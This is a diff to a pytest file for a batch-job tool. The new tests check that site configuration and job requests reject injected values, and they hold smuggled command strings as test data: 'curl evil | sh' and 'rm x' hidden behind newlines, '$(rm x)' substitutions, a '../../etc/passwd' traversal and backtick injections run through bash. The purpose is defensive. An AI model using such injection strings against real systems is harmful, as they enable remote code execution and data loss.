@@ -1,6 +1,7 @@
 """Sites, job scripts, what batch systems say, estimates: everything about jobs that needs no batch system."""
 
 import re
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -59,15 +60,45 @@ def test_empty_values_leave_no_line(monkeypatch: pytest.MonkeyPatch) -> None:
         ("[partitions.short]\nminutes = 'long'", "minutes='long': Input should be a valid integer"),
         ('system = "lsf"', "system='lsf': Input should be 'slurm', 'pbs' or 'flux'"),
         ("modules = 3", "modules=3"),
-        ("partitions = 3", "partitions must be tables"),
+        ("partitions = 3", "partitions=3: Input should be a valid dictionary"),
         ("launcher =", "cannot be read"),
+        ("partitions.short = 3", "partitions.short=3"),
+        ("partitions.short.nodes = -1", "nodes=-1, but it must be a whole number from 1 to 100,000"),
+        ('partition = "a\\ncurl evil | sh"', "partition='a.ncurl evil | sh', but it must be one line"),
+        ('partition = "a b"', "partition='a b', but it must be a word"),
+        ('modules = ["mpi\\nrm x"]', "modules='mpi.nrm x', but it must be one line"),
+        ('setup = ["true\\u2028rm x"]', "setup='true.u2028rm x', but it must be one line"),
+        ('options = ["--gres=gpu\\r:1"]', "options='--gres=gpu.r:1', but it must be one line"),
+        ('scratch = "/x\\ny"', "scratch='/x.ny', but it must be one line"),
+        ('[environment]\nA = "1\\nrm x"', "environment.A='1.nrm x', but it must be one line"),
+        ('[environment]\n"A;rm x" = "1"', "environment='A;rm x', but it must be the name of a variable"),
+        ('constraint = "a $(rm)"', "but it must be one word, as in"),
     ],
 )
 def test_a_wrong_site_says_what_is_wrong(tmp_path: Path, text: str, wanted: str) -> None:
     path = tmp_path / "mine.toml"
     path.write_text(text)
-    with pytest.raises(SpecError, match=re.escape(wanted) if "(" in wanted else wanted):
+    with pytest.raises(SpecError, match=re.escape(wanted) if "(" in wanted else wanted.replace("|", "[|]")):
         site.load(path)
+
+
+def test_a_site_is_a_name_or_a_toml_file() -> None:
+    with pytest.raises(SpecError, match="is no path"):
+        site.find("../../etc/passwd")
+
+
+def test_no_text_of_a_request_becomes_a_line_or_a_command_of_the_script(tmp_path: Path) -> None:
+    for words in ({"partition": "a\nrm x"}, {"account": "$(rm x)"}, {"constraint": "a b"}, {"suite": "a\nb.toml"}):
+        with pytest.raises(SpecError, match="but it must be"):
+            jobs.Request(**({"suite": "quick"} | words))
+    with pytest.raises(SpecError, match="must be one line"):
+        script.render(jobs.Request(suite="quick"), site.Site(), Path("/x\ny"))
+    mark = tmp_path / "executed"
+    text = script.render(jobs.Request(suite="quick"), site.Site(), tmp_path / f"a$(touch {mark})`touch {mark}`")
+    done = subprocess.run(["bash", "-c", text], capture_output=True, text=True)
+    assert done.returncode == 1
+    assert "is not to be seen from" in done.stderr
+    assert not mark.exists()
 
 
 def test_a_site_is_found_by_its_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -91,7 +122,7 @@ def test_a_site_is_found_by_its_name(tmp_path: Path, monkeypatch: pytest.MonkeyP
         ({"partition": "shrt"}, "There is no partition 'shrt'. There are: short, compute"),
         ({"partition": "short", "minutes": 60}, "--time 60, but partition short allows 30"),
         ({"partition": "short", "nodes": 5}, "--nodes 5, but partition short allows 4"),
-        ({"array": 0}, "--array 0, but it must be at least 1"),
+        ({"array": 0}, "--array 0, but it must be a whole number from 1 to 1,000"),
     ],
 )
 def test_an_impossible_request_is_refused(
